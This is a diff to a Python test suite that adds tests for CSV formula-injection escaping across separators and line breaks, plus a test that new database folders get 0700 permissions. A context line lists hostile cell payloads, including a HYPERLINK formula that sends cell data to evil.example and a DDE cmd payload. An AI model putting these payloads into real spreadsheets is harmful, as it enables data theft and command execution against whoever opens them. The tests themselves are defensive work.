@@ -24,6 +24,8 @@ import pytest
 import sqlalchemy as sa
 from alembic import command
 from fastapi.testclient import TestClient
+from hypothesis import given, settings
+from hypothesis import strategies as st
 from typer.testing import CliRunner
 
 from taihu.api.app import app
@@ -78,13 +80,41 @@ HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!
         ("\tx", "'\tx"),
         ("\rx", "'\rx"),
         ("甲", "甲"),
-        ("a=b", "a=b"),  # only the first character makes a formula
+        ("a=b", "a=b"),  # only the first character of a cell makes a formula
+        # a spreadsheet that splits on `;`, or on `,` past the quotes, starts a cell after each separator
+        ("a;=1+1", "a;'=1+1"),
+        ("a,=1", "a,'=1"),
+        (";=", ";'="),
+        ("x;-1;@2", "x;'-1;'@2"),
+        ("a;\tb", "a;'\tb"),
+        ("a,\rb", "a,'\rb"),
+        ("a\n=1", "a\n'=1"),  # a line break starts a row
+        ("a; =1", "a;' =1"),  # past spaces
+        ('a;"=1', "a;'\"=1"),  # past a quote, which opens a quoted cell
+        ("a;b", "a;b"),
+        ("a;'=1", "a;'=1"),  # already text
         ("", ""),
         ("E", "E"),
     ],
 )
 def test_a_text_cell_that_would_be_a_formula_is_quoted(text: str, cell: str) -> None:
     assert spreadsheet_text(text) == cell
+
+
+@settings(max_examples=300, deadline=None, derandomize=True, database=None)
+@given(text=st.text(alphabet=st.sampled_from("=+-@\t\r\n,;\"' a甲"), max_size=12))
+def test_no_spreadsheet_splitting_the_csv_line_anywhere_sees_a_formula(text: str) -> None:
+    """However a spreadsheet splits a row (on `,` or `;`, honouring the quotes or not, at line breaks), each
+    cell it sees starts, past spaces and quotes, with no formula: the CSV's cell is the text, a `'` before
+    each formula start (and taking those out gives the text back)."""
+    out = io.StringIO()
+    csv.writer(out, lineterminator="\n").writerow([1, spreadsheet_text(text), -52])
+    for separator in (",", ";"):
+        for line in out.getvalue().splitlines():
+            for cell in line.split(separator):
+                assert not cell.lstrip(' "').startswith(("=", "+", "-", "@", "\t", "\r")) or cell == "-52", cell
+    if "\r" not in text:  # the writer quotes a cell for its line terminator "\n" only (names hold no CR: check_text)
+        assert next(csv.reader(io.StringIO(out.getvalue(), newline="")))[1].replace("'", "") == text.replace("'", "")
 
 
 def spreadsheet_rows(text: str) -> list[list[str]]:
@@ -470,6 +500,22 @@ def test_the_database_and_its_wal_files_are_made_0600(tmp_path: Path) -> None:
         os.umask(saved)
     assert modes == {"ledger.db": 0o600, "ledger.db-wal": 0o600, "ledger.db-shm": 0o600}
     assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700  # the folder taihu made for it
+
+
+@pytest.mark.parametrize("umask", [0o000, 0o022, 0o002, 0o077])
+def test_every_folder_the_store_makes_is_0700_whatever_the_umask(tmp_path: Path, umask: int) -> None:
+    """`--db some/new/dir/x.sqlite`: each folder taihu makes is its owner's only; one already there keeps its mode."""
+    (tmp_path / "some").mkdir(mode=0o755)
+    (tmp_path / "some").chmod(0o755)
+    path = tmp_path / "some" / "new" / "dir" / "x.sqlite"
+    saved = os.umask(umask)
+    try:
+        LedgerStore(path).close()
+    finally:
+        os.umask(saved)
+    modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in (path.parent.parent, path.parent)}
+    assert modes == {"new": 0o700, "dir": 0o700}
+    assert stat.S_IMODE((tmp_path / "some").stat().st_mode) == 0o755
 
 
 def test_an_existing_file_keeps_the_mode_its_owner_gave_it(tmp_path: Path) -> None:
